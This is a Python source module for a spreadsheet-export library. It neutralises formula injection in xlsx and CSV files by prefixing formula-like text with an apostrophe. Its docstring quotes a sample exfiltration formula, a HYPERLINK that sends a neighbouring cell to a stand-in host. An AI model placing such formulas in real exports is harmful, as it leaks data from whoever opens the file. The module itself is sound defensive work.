"""The one way to write a file a person opens in Excel/WPS: xlsx workbooks and CSV (SECURITY issue #14.4).

A text cell that starts with `=`, `+`, `-`, `@`, tab or CR is read as a formula by spreadsheet programs, so a
name or a pushed value like `=HYPERLINK("http://x/?id="&F4,"x")` would run in the reader's copy (and send
the cell next to it away). Following OWASP's CSV-injection guidance every such text gets a leading `'`;
numbers, dates and text that is just a number (`-120.5`) stay as they are. Every export uses `Workbook`,
`csv_writer` or `dict_writer` from here; tests/lib/test_spreadsheet.py fails when a module writes one
another way. Django-free.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any, Protocol

from openpyxl import Workbook as _OpenpyxlWorkbook
from openpyxl.cell.cell import Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet


class Writable(Protocol):
    """A text file, a StringIO or an HttpResponse."""

    def write(self, text: str, /) -> Any: ...


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def inert(value: Any) -> Any:
    """`value` as a spreadsheet reads it literally: formula-like text gets a leading `'`."""
    if isinstance(value, Cell):
        value.value = inert(value.value)
        return value
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def inert_row(values: Iterable[Any]) -> list[Any]:
    return [inert(v) for v in values]


class _Sheet(Worksheet):  # type: ignore[misc]  # openpyxl ships no types
    def append(self, iterable: Iterable[Any]) -> None:
        super().append(inert_row(iterable))

    def cell(self, row: int, column: int, value: Any = None) -> Any:
        return super().cell(row, column, inert(value))


class _WriteOnlySheet(WriteOnlyWorksheet):  # type: ignore[misc]
    def append(self, row: Iterable[Any]) -> None:
        super().append(inert_row(row))


class Workbook(_OpenpyxlWorkbook):  # type: ignore[misc]
    """openpyxl's workbook whose sheets neutralise every value written (`sheet.append`, `sheet.cell`)."""

    def __init__(self, write_only: bool = False) -> None:
        super().__init__(write_only=write_only)
        if not write_only:
            self._sheets[0] = _Sheet(self)

    def create_sheet(self, title: str | None = None, index: int | None = None) -> Any:
        sheet = (_WriteOnlySheet if self.write_only else _Sheet)(parent=self, title=title)
        self._add_sheet(sheet=sheet, index=index)
        return sheet


class _CsvWriter:
    def __init__(self, handle: Writable, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow(inert_row("" if v is None else v for v in row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _DictWriter:
    def __init__(self, handle: Writable, fieldnames: list[str], **options: Any) -> None:
        self._writer = csv.DictWriter(handle, fieldnames=fieldnames, **options)

    def writeheader(self) -> None:
        self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({key: inert(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: Writable, **options: Any) -> _CsvWriter:
    """`csv.writer` whose rows are neutralised (None is written as an empty cell)."""
    return _CsvWriter(handle, **options)


def dict_writer(handle: Writable, fieldnames: list[str], **options: Any) -> _DictWriter:
    """`csv.DictWriter` whose values are neutralised."""
    return _DictWriter(handle, fieldnames, **options)
